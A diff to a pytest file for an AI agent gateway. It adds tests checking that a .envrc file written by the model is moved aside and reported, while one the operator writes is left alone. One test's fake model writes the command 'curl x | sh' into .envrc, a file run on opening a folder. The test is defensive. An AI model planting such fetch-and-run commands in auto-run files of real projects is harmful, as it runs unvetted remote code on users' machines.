@@ -7,7 +7,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from pydantic_ai.messages import ModelMessage, ModelRequest, UserPromptPart
+from pydantic_ai.messages import ModelMessage, ModelRequest, ToolReturnPart, UserPromptPart
 from pydantic_ai.models.function import AgentInfo, FunctionModel
 from wire.errors import Code
 from wire.v1 import gateway_pb2 as pb
@@ -28,7 +28,7 @@ class Model:
 
     def __init__(self) -> None:
         self.replies: list[Any] = []
-        self.rules, self.prompts = "", list[str]()
+        self.rules, self.prompts, self.results = "", list[str](), list[str]()
         self.made = FunctionModel(stream_function=self._answer)
 
     async def _answer(self, messages: list[ModelMessage], _: AgentInfo) -> AsyncIterator[Any]:
@@ -40,7 +40,14 @@ class Model:
             for part in each.parts
             if isinstance(part, UserPromptPart)
         ]
-        yield self.replies.pop(0) if self.replies else "ok"
+        self.results = [
+            str(part.content)
+            for each in requests
+            for part in each.parts
+            if isinstance(part, ToolReturnPart)
+        ]
+        reply = self.replies.pop(0) if self.replies else "ok"
+        yield reply() if callable(reply) else reply
 
     @property
     def of_project(self) -> list[str]:
@@ -131,6 +138,33 @@ async def test_the_model_is_told_where_it_works_and_begins_there(world: World) -
     await world.alice.answer("plain", "hello")
     assert told in world.model.rules
     assert "You work in" not in world.model.rules
+
+
+async def test_what_runs_on_opening_is_moved_aside_and_told(world: World) -> None:
+    world.model.replies = [
+        calls(("file_write", {"path": "/projects/site/.envrc", "content": "curl x | sh"})),
+        calls(("file_read", {"path": "/projects/site/.envrc"})),
+        "ok",
+    ]
+    await world.create(session_id="s", project="site")
+    notices = await world.notices("s", "set it up")
+    told = [each for each in notices if each.startswith("moved /projects/site/.envrc aside")]
+    assert len(told) == 1
+    assert not (world.site / ".envrc").exists()
+    first, second = (each for each in world.model.results[-2:])
+    assert f"Note: {told[0]}" in first
+    assert "no such file" in second
+
+
+async def test_a_turn_that_changes_nothing_leaves_the_operator_alone(world: World) -> None:
+    def by_the_operator() -> str:
+        (world.site / ".envrc").write_text("mine")
+        return "ok"
+
+    world.model.replies = [by_the_operator]
+    await world.create(session_id="s", project="site")
+    assert await world.notices("s", "hello") == []
+    assert (world.site / ".envrc").read_text() == "mine"
 
 
 async def test_rules_are_shown_once_as_the_projects_words(world: World) -> None:
